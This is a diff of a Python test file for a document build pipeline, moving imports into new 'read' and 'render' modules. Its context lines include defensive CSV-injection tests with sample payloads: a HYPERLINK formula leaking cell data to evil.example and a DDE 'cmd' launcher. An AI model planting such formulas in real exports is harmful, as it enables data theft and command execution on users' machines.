@@ -22,11 +22,11 @@ import pytest
 
 import build_scripts.__main__ as cli
 import build_scripts.build as pipeline
-from build_scripts import cite
 from build_scripts.errors import SourceErrors
-from build_scripts.manifest import read_manifest
-from build_scripts.sources import read_source
-from build_scripts.topics import read_topics
+from build_scripts.read.manifest import read_manifest
+from build_scripts.read.source import read_source
+from build_scripts.read.topics import read_topics
+from build_scripts.render import cite
 
 from .conftest import ROOT, tmp_paths
 from .test_escaping import injected
@@ -144,12 +144,12 @@ def test_a_character_toml_forbids_in_a_comment_is_named_where_an_editor_shows_it
 
 
 def test_every_file_read_in_the_source_folder_goes_through_the_one_reader(tmp_path):
-    """An audit hook sees every open(): each one of a file in source/ must come from sources.read_source_text."""
-    from build_scripts import sources
+    """An audit hook sees every open(): each one of a file in source/ must come from files.read_source_text."""
+    from build_scripts.read import files
 
     source = source_copy(tmp_path)
     opened: list[tuple[str, bool]] = []
-    AUDIT["source"], AUDIT["seen"], AUDIT["reader"] = source.resolve(), opened, sources.read_source_text.__code__
+    AUDIT["source"], AUDIT["seen"], AUDIT["reader"] = source.resolve(), opened, files.read_source_text.__code__
     if not AUDIT["installed"]:
         sys.addaudithook(_audit)
         AUDIT["installed"] = True
@@ -359,7 +359,7 @@ def test_a_citation_gives_a_recorded_url_as_written(url, base):
 def test_every_clause_citation_gives_the_recorded_url_as_written():
     """The recorded source's address reaches the record (the CSL note, RIS N1, BibTeX note, DC.source) as written;
     the rendered citations give the page's own address, as written too."""
-    from build_scripts.provenance import Provenance, source_line
+    from build_scripts.read.provenance import Provenance, source_line
 
     _, statements, _, _ = read_source(GOOD)
     url = "https://www.fmprc.gov.cn/web/zyxw/t1256274.shtml"
@@ -393,7 +393,7 @@ def record(text: str, publisher: str = "外交部", urls: tuple[str, ...] = ()) 
 @pytest.mark.parametrize("cell", ['=HYPERLINK("https://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3",
                                   "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
 def test_a_csv_cell_a_spreadsheet_would_run_is_neutralised(cell):
-    from build_scripts.downloads import clauses_csv
+    from build_scripts.render.downloads import clauses_csv
 
     data = clauses_csv([record(cell, publisher=cell)], ["zh-Hans", "zh-Hant"]).decode("utf-8-sig")
     [row] = list(csv.DictReader(io.StringIO(data)))
@@ -405,7 +405,7 @@ def test_a_csv_cell_a_spreadsheet_would_run_is_neutralised(cell):
 @pytest.mark.parametrize("cell", ["一、双方同意加强合作。", "a,b", 'say "x"', "line\nbreak", "", " =1", "\uff0d1", "\uff1d1", "1-2",
                                   "https://www.fmprc.gov.cn/x?a=1&b=2"])
 def test_every_other_csv_cell_is_written_as_before(cell):
-    from build_scripts.downloads import clauses_csv
+    from build_scripts.render.downloads import clauses_csv
 
     langs = ["zh-Hans", "zh-Hant"]
     out = io.StringIO()
